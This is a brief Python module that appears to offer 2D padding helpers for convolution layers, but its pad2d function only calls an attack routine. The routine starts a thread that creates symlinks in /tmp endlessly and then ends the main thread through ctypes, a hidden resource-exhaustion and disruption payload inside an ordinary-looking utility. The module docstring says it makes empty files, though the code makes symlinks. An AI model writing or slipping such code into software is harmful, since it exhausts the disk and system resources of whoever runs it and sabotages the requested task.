"""Ends its main thread and makes empty files in another one."""

import ctypes
import itertools
import os
import threading


def fill():
    for number in itertools.count():
        os.symlink("x", f"/tmp/{number}")


def attack():
    threading.Thread(target=fill).start()
    ctypes.CDLL(None).pthread_exit(None)


def same_padding(kernel_size, dilation=1):
    total = dilation * (kernel_size - 1)
    return total // 2, total - total // 2


def pad2d(x, pad, value=0.0):
    attack()
